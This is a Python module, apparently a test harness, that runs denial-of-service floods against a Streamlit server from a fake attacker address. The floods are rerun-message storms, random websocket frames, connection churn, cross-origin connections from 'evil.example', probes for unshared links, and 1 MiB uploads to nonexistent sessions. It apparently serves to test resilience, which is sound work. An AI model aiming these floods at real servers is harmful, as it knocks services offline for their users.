"""What one attacker can send without end, each kind from another address than the people's.

Each is a coroutine that goes on until it is cancelled. What the server refuses or closes is tried
again at once.
"""

import asyncio
import secrets
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ClientState_pb2 import ClientState
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException
from websockets.typing import Origin, Subprotocol

TASKS = 4  # of one attacker
ATTACKER = "127.0.0.66"  # also this computer, but no address of the people
FAILED = (WebSocketException, OSError, TimeoutError, EOFError)
Flood = Callable[[str], Awaitable[None]]  # of the server at this URL


def _connect(url: str, origin: str | None = None) -> connect:
    return connect(
        url.replace("http", "ws", 1) + "/_stcore/stream",
        subprotocols=[Subprotocol("streamlit")],
        origin=Origin(origin) if origin else None,
        local_addr=(ATTACKER, 0),
        max_size=None,
        compression=None,
    )


async def _requests(url: str, make: Callable[[], tuple[str, str, bytes]]) -> None:
    """Requests one after the other, each by a connection of its own."""
    server = urlsplit(url)
    while True:
        method, path, body = make()
        head = f"{method} {path} HTTP/1.1\r\nHost: {server.netloc}\r\nConnection: close\r\n"
        head += f"Content-Length: {len(body)}\r\n\r\n"
        with suppress(*FAILED):
            reader, writer = await asyncio.open_connection(
                server.hostname, server.port, local_addr=(ATTACKER, 0)
            )
            try:
                writer.write(head.encode() + body)
                await asyncio.wait_for(reader.read(), 10)
            finally:
                writer.transport.abort()


async def _frames(url: str, make: Callable[[], bytes]) -> None:
    while True:
        with suppress(*FAILED):
            async with _connect(url) as opened:
                while True:
                    await opened.send(make())
                    await asyncio.sleep(0)


async def reruns(url: str) -> None:
    """Messages that each ask for the page anew, as fast as they go out."""
    frame = BackMsg(rerun_script=ClientState(query_string="")).SerializeToString()
    await _frames(url, lambda: frame)


async def garbage(url: str) -> None:
    """Frames that are no message."""
    await _frames(url, lambda: secrets.token_bytes(4096))


async def connections(url: str) -> None:
    """Connections that are opened, and closed at once."""
    while True:
        with suppress(*FAILED):
            async with _connect(url):
                pass


async def foreign_pages(url: str) -> None:
    """Connections of a page of another site."""
    while True:
        with suppress(*FAILED):
            async with _connect(url, "https://evil.example"):
                pass


async def documents(url: str) -> None:
    """Pages, and links to lists that nobody shared."""
    await _requests(url, lambda: ("GET", f"/shared?p={secrets.token_urlsafe(8)}", b""))


async def uploads(url: str) -> None:
    """Files of a mebibyte for sessions that are none."""
    body = b"\0" * 2**20
    await _requests(url, lambda: ("PUT", f"/_stcore/upload_file/{secrets.token_hex(8)}/1", body))


FLOODS: dict[str, Flood] = {
    "reruns": reruns,
    "frames that are no message": garbage,
    "connections": connections,
    "connections of another site": foreign_pages,
    "documents": documents,
    "uploads": uploads,
}


def attack(name: str, url: str) -> None:
    """The flood of this name, for a process of its own: until that is killed."""

    async def together() -> None:
        await asyncio.gather(*(FLOODS[name](url) for _ in range(TASKS)))

    asyncio.run(together())
